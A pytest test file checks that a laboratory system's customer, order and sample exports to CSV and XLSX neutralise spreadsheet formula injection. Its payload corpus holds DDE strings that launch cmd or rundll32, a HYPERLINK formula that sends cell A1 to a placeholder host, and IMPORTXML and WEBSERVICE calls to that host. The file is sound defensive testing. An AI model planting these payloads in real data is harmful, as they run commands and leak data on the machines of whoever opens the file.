"""T08: what customers type runs in nobody's spreadsheet program (CWE-1236)."""

import csv
import io

import openpyxl
import pytest

from lims.ui.spreadsheet import harmless
from tests.intake.desk import desk, order_json
from tests.intake.makers import make_house

STARTS = ("=", "+", "-", "@", "\t=", "\r=", "＝", "＋", "－", "＠", "\x00=", "\x1f=", "\x0b=")
BODIES = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://x.example/?"&A1,"ok")',
    'IMPORTXML("http://x.example","//a")',
    'WEBSERVICE("http://x.example")',
    "SUM(1+9)*cmd|'/c calc'!A1",
    'DDE("cmd";"/C calc";"x")',
    "-2+3+cmd|' /C calc'!A0",
    'IFERROR(1,"")',
    "A1",
    "1e3",
    "(1)",
    "rundll32|'URL.dll,OpenURL calc.exe'!A",
    "@SUM(1)",
    '"=1"',
    "；=1",
)
PAYLOADS = [start + body for start in STARTS for body in BODIES]
RUNS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


def test_the_corpus_is_a_corpus():
    assert len(set(PAYLOADS)) >= 200


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_cell_begins_like_a_formula(payload):
    assert not harmless(payload).startswith(RUNS)


def test_figures_stay_figures():
    assert [harmless(t) for t in ("12.5", "< 0.1", "", "绿豆糕 -1")] == ["12.5", "< 0.1", "", "绿豆糕 -1"]


# A customer's name is the text that a stranger chooses most freely.
NAMES = [p for p in PAYLOADS if p.isprintable()]


@pytest.fixture
def hostile(app, uow):
    """A browser at a desk whose customers and orders carry hostile names."""
    house = make_house(uow)
    browser = desk(app, uow)
    for n, name in enumerate(NAMES[:60]):
        made = browser.post("/api/customers", json={"customer": {"name": name, "address": name}})
        assert made.status_code == 201, made.text
        body = order_json(
            house, customer_id=made.json["id"], contact_id=None, samples=[{"name": name, "batch": str(n)}]
        )
        assert browser.post("/api/orders", json=body).status_code == 201
    return browser


@pytest.mark.parametrize("path", ["/customers", "/orders", "/samples"])
def test_no_export_of_the_desk_holds_a_formula(hostile, path):
    book = openpyxl.load_workbook(io.BytesIO(hostile.get(f"{path}?export=xlsx").data))
    cells = [cell for row in book.active.iter_rows() for cell in row]
    assert len(cells) > 60
    assert {cell.data_type for cell in cells} <= {"s", "n", "d", "b", "inlineStr"}
    assert [c.value for c in cells if c.data_type == "s" and str(c.value).startswith(RUNS)] == []
    table = csv.reader(io.StringIO(hostile.get(f"{path}?export=csv").data.decode("utf-8-sig")))
    assert [cell for row in table for cell in row if cell.startswith(RUNS)] == []


def test_faulty_rows_come_back_as_text(app, uow):
    make_house(uow)
    browser = desk(app, uow)
    rows = "样品名称\t批号\n" + "\n".join(f"{p}\t2" for p in NAMES)
    answer = browser.post("/api/orders/paste/faulty-rows.csv", json={"text": rows})
    table = list(csv.reader(io.StringIO(answer.data.decode("utf-8-sig"))))
    assert len(table) == len(NAMES) + 1
    assert [cell for row in table for cell in row if cell.startswith(RUNS)] == []
